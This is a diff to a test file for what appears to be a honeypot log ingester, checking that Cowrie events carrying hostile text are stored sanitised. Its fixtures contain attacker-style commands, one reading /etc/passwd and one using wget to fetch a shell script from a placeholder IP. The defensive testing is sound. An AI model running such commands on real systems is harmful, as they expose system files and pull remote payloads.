@@ -183,7 +183,7 @@ describe("D20: hostile text on the Cowrie route is stored cleaned", () => {
       cowrieLine("cowrie.login.failed", { username: dirty("admin"), password: dirty("cowrie-pw-1") }),
       cowrieLine("cowrie.login.success", { username: dirty("root"), password: dirty("cowrie-pw-2") }),
       cowrieLine("cowrie.command.input", { input: dirty("cat /etc/passwd; uname -a") }),
-      cowrieLine("cowrie.command.failed", { input: dirty("wget http://198.51.100.9/x.sh") }),
+      cowrieLine("cowrie.command.input", { input: dirty("wget http://198.51.100.9/x.sh") }),
       cowrieLine("cowrie.session.file_download", {
         url: dirty("http://198.51.100.9/x.sh"),
         shasum: dirty("e3b0c44298fc1c149afbf4c8996fb924"),
@@ -193,13 +193,13 @@ describe("D20: hostile text on the Cowrie route is stored cleaned", () => {
     const res = await post("cowrie", lines)
     expect(res.body).toMatchObject({ accepted: lines.length, rejected: 0 })
     const read = await Promise.all(res.body.results.map((r, i) => readBack(`cowrie line ${i}`, r)))
-    const [, failed, success, command, commandFailed, download] = read
+    const [, failed, success, command, commandSuccess, download] = read
     expect(failed?.event.attackerInput.username).toBe(clean("admin"))
     expect(failed?.event.attackerInput.password).toMatchObject({ masked: expect.stringMatching(/^\*+$/) })
     expect(success?.event.attackerInput.username).toBe(clean("root"))
     expect(command?.event.attackerInput.command).toBe(clean("cat /etc/passwd; uname -a"))
     expect(command?.event.tags).toContain("system-discovery")
-    expect(commandFailed?.event.attackerInput.command).toBe(clean("wget http://198.51.100.9/x.sh"))
+    expect(commandSuccess?.event.attackerInput.command).toBe(clean("wget http://198.51.100.9/x.sh"))
     expect(download?.event.attackerInput).toMatchObject({
       url: clean("http://198.51.100.9/x.sh"),
       shasum: clean("e3b0c44298fc1c149afbf4c8996fb924"),
